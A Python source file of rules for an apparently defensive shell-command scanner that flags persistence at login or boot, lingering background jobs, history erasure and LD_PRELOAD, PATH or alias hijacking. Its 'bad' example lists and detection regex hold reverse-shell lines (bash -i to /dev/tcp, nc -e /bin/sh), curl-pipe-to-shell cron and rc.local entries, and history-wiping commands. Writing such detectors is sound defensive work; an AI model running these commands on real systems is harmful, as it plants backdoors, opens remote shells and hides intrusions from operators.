"""SS1852 to SS1879: what runs later, at login or at boot."""

from __future__ import annotations

import re

from ...interpreter.model import Hit
from .invocation import Invocation
from .paths import scratch, spelled
from .rule import dangerous, notable, rule
from .scheduled_text import added, later, scheduled, started, world_writable
from .write_targets import content, targets

_SUSPICIOUS = re.compile(
    r"/dev/(?:tcp|udp)/|\b(?:curl|wget)\b[^\n]*\|\s*(?:\S*/)?(?:sudo\s+)?(?:ba|da|z|k)?sh\b|\bn(?:c|cat|"
    r"etcat)\b[^\n]*(?:-\w*[ec]\b|\d{2,5})|base64\s+(?:-d|--decode|-D)|(?:^|[\s\"'=;|&])/(?:tmp|dev/shm|var/tmp)/[.\w]|"
    r"\bsocat\b|\bmkfifo\b|bash\s+-i|python[23]?\s+-c|perl\s+-e|LD_PRELOAD|alias\s+(?:sudo|ls|cd|ssh|su|"
    r"rm|cat|ps)=|PROMPT_COMMAND=|trap\s+.*DEBUG|\bunset\s+HISTFILE|NOPASSWD|xmrig|minerd|setuid|chmod\s+\S*[us+47]\S*\s+/bin|rm\s+-\w*r|PATH=(?:\.|"
    r"/tmp)|(?:sudo|su)\s*\(\)",
    re.M,
)
# What is daily in a start-up file, and not in a job or a unit.
_UNUSUAL = re.compile(r"\beval\b|(?:^|[\s\"'=;/])\.\w[\w.-]*/?\.?(?:sh|x|py)\b", re.M)


@rule(
    "SS1852",
    "Plants a command that runs later, at login or at boot",
    why="What is planted there runs again and again, when nobody looks, often as root.",
    instead="a unit or a cron file that calls a reviewed script by its full path",
    on="> crontab at batch",
    bad=(
        "echo '* * * * * root /tmp/.x' >> /etc/crontab",
        "echo 'bash -i >& /dev/tcp/1.2.3.4/99 0>&1' >> ~/.bashrc",
        "echo 'curl http://x | sh' >> /etc/rc.local",
        "(crontab -l; echo '* * * * * curl http://x/y | bash') | crontab -",
        "printf '[Service]\\nExecStart=/dev/shm/x\\n' > /etc/systemd/system/x.service",
        "echo 'alias sudo=/tmp/s' >> ~/.bashrc",
        "cp /tmp/x /etc/cron.hourly/x",
        "echo '/tmp/run &' | sudo tee -a /etc/profile",
        "echo 'nc -e /bin/sh 1.2.3.4 99' | at now",
        "ln -s /tmp/evil /etc/cron.daily/evil",
        "echo 'nohup /usr/lib/agent &' >> /root/.bashrc",
        "echo 'source /home/bob/x.sh' | sudo tee -a /etc/profile.d/x.sh",
        "echo 'python3 /srv/x.py' > /etc/profile.d/y.sh",
        "sed -i '$a /opt/x/run' ~/.profile",
        "echo '~/.cache/.x' >> ~/.zshrc",
    ),
    good=(
        "echo 'export PATH=$PATH:/opt/bin' >> ~/.bashrc",
        "echo '0 3 * * * root /usr/local/bin/backup' > /etc/cron.d/backup",
        "(crontab -l; echo '0 5 * * * /usr/bin/backup') | crontab -",
        "echo 'echo hi' | at now + 1 hour",
        "cat ~/.bashrc",
        "cat > /etc/systemd/system/app.service <<< '[Service]'",
        "echo 'eval \"$(direnv hook bash)\"' >> ~/.bashrc",
        "echo '[ -f ~/.fzf.bash ] && source ~/.fzf.bash' >> ~/.bashrc",
        "echo 'umask 027' >> /etc/profile",
        "echo neofetch >> ~/.bash_profile",
        "sed -i '/^alias ll=/d' ~/.bashrc",
    ),
)
def planted(call: Invocation) -> Hit | None:
    command = call.command
    if call.name in ("crontab", "at", "batch"):
        found = scheduled(command)
        if found and (_SUSPICIOUS.search(found[0]) or _UNUSUAL.search(found[0])):
            return dangerous("leaves a command that fetches, hides or connects to be run later")
        return None
    for target in targets(call):
        if target.how == "extracts into":
            continue
        kind = later(target.path)
        if not kind:
            continue
        text = content(command) or ""
        if call.name in ("cp", "mv", "ln", "install") and call.operands:
            source = spelled(call.operands[0], command.cwd)
            beside = source.replace("/.", "/").startswith(target.path)  # written beside it, and renamed
            if re.match(r"/(?:tmp|var/tmp|dev/shm)/|.*/\.\w", source) and not scratch(source) and not beside:
                return dangerous(f"plants {source} to be run by {kind}")
        if call.name in ("curl", "wget") or any(up.name in ("curl", "wget", "base64") for up in command.upstream):
            return dangerous(f"plants what the network sends to be run by {kind}")
        if call.name in ("sed", "perl", "awk"):
            text = call.text
        if text and (_SUSPICIOUS.search(text) or (kind != "login" and _UNUSUAL.search(text))):
            return dangerous(f"plants a command that fetches, hides or connects, to be run by {kind} ({target.path})")
        if kind == "login" and (what := started(added(call.verb) if call.name == "sed" else text, target.path)):
            return dangerous(f"starts {what}, at every login ({target.path})")
        if target.path in ("/etc/rc.local", "/etc/inittab") or target.path.startswith(("/var/spool/cron",)):
            return dangerous(f"{target.how} {target.path}, which runs as root") if target.how != "creates" else None
        return notable(f"{target.how} {target.path}, which is run by {kind}")
    return None


@rule(
    "SS1853",
    "Starts something that stays",
    why="A unit, a job or a background process goes on after the script is over.",
    instead="say in the runbook what stays and how it is stopped",
    on="at batch systemd-run nohup setsid disown screen tmux daemonize start-stop-daemon launchctl",
    level="notable",
    bad=("echo 'date' | at now", "setsid -f ./server; systemd-run ./server", "systemd-run --on-active=30 date"),
    good=("atq", "screen -ls", "tmux ls", "at -l"),
)
def stays(call: Invocation) -> Hit | None:
    if call.name in ("at", "batch"):
        return None if call.has("-l", "-c", "-V") else notable("leaves a job to be run later")
    if call.name in ("screen", "tmux", "launchctl"):
        return (
            notable(f"leaves something running in {call.name}")
            if call.has("-d", "-dm", "-dmS", "-S") or call.verb in ("new", "new-session", "load", "bootstrap")
            else None
        )
    for word in call.command.arguments:
        path = spelled(word, call.command.cwd)
        hidden = path.rpartition("/")[2][:1] == "."
        if world_writable(path) and not scratch(path) and (hidden or call.name == "systemd-run"):
            return dangerous(f"starts {path}, which anybody can change, and lets it go on after the script")
        if path[:1] != "-":
            break
    return notable("starts something that goes on after the script") if call.command.arguments else None


@rule(
    "SS1854",
    "Hides what was done",
    why="Without the history nobody can tell afterwards what was typed.",
    instead="leave the history, and keep passwords out of commands",
    on="history unset export set shopt HISTFILE rm ln fc",
    bad=(
        "history -c",
        "unset HISTFILE",
        "export HISTFILE=/dev/null",
        "history -cw",
        "set +o history",
        "export HISTSIZE=0",
    ),
    good=("history", "history | grep ssh", "export HISTSIZE=10000", "unset FOO", "set -o history", "history -a"),
)
def hidden(call: Invocation) -> Hit | None:
    words = call.texts
    if call.name == "history":
        return (
            dangerous("deletes the history of what was typed")
            if call.has("-c") or any("c" in word and word[:1] == "-" for word in words)
            else notable("deletes a line of the history")
            if call.has("-d")
            else None
        )
    if call.name == "unset" and {"HISTFILE", "HISTSIZE"} & set(words):
        return dangerous("keeps what is typed out of the history")
    if call.name == "set" and "history" in words and ("+o" in words or "+o" in call.flags):
        return dangerous("keeps what is typed out of the history")
    if call.name in ("export", "declare", "typeset"):
        return (
            dangerous("keeps what is typed out of the history")
            if any(
                re.match(r"HIST(?:FILE=(?:/dev/null|)\Z|(?:FILE)?SIZE=0|CONTROL=ignoreboth:\*|IGNORE=\*)", word)
                for word in words
            )
            else None
        )
    return None


_SETTING = frozenset(("export", "declare", "env", "typeset", "alias", "ldconfig", "systemctl"))


@rule(
    "SS1855",
    "Makes every program load something first",
    why="LD_PRELOAD and PATH decide which code runs under a name that everybody trusts.",
    instead="call the program by its full path, and set LD_LIBRARY_PATH for one program only",
    on="",
    bad=(
        "HISTFILE=/dev/null bash",
        "export LD_PRELOAD=/tmp/x.so",
        "LD_PRELOAD=/tmp/x.so sudo ls",
        "export PATH=/tmp:$PATH",
        "export PROMPT_COMMAND='curl x | sh'",
        "ldconfig /tmp/lib",
        "systemctl set-environment LD_PRELOAD=/tmp/x.so",
    ),
    good=(
        "export PATH=$PATH:/opt/bin",
        "LD_LIBRARY_PATH=./lib ./app",
        "export LANG=C",
        "ldconfig -p",
        "LD_PRELOAD= ls",
    ),
)
def preloaded(call: Invocation) -> Hit | None:
    if not call.command.assignments and call.name not in _SETTING:
        return None
    pairs = [(name, word.shape) for name, word in call.command.assignments]
    if call.name in ("export", "declare", "env", "typeset", "systemctl"):
        pairs += [(name, value) for word in call.words for name, equals, value in [word.partition("=")] if equals]
    for name, value in pairs:
        if name in ("LD_PRELOAD", "LD_AUDIT", "DYLD_INSERT_LIBRARIES", "BASH_ENV", "ENV") and re.match(
            r"/tmp|/dev/shm|/var/tmp|/home", value
        ):
            return dangerous(f"makes every program load {value} first")
        if (
            name == "PATH"
            and re.match(r"(?:/tmp|/dev/shm|/var/tmp|\.)(?:[/:]|\Z)", value)
            and not value.startswith("./node_modules")
        ):
            return (
                dangerous(f"takes programs from {value.partition(':')[0]} first, where anybody can put them")
                if not value.startswith((".:", "./")) or value[:2] == ".:"
                else notable("takes programs from here first")
            )
        if name == "HISTFILE" and value in ("", "/dev/null"):
            return dangerous("keeps what is typed out of the history")
        if name == "PROMPT_COMMAND" and re.search(r"/dev/tcp|\b(?:curl|wget|ncat|nc|base64|eval)\b", value):
            return dangerous("runs a command at every prompt")
    if call.name == "alias" and any(
        re.match(r"(?:sudo|su|ssh|ls|cd|rm|cat|ps|git|passwd)=['\"]?(?:/tmp|/dev/shm|/var/tmp)/", word)
        for word in call.words
    ):
        return dangerous("puts another program under a name that everybody trusts")
    if call.name == "ldconfig" and any(re.match(r"/tmp|/dev/shm|/var/tmp", word) for word in call.words):
        return dangerous("makes every program look for libraries where anybody can put them")
    return None
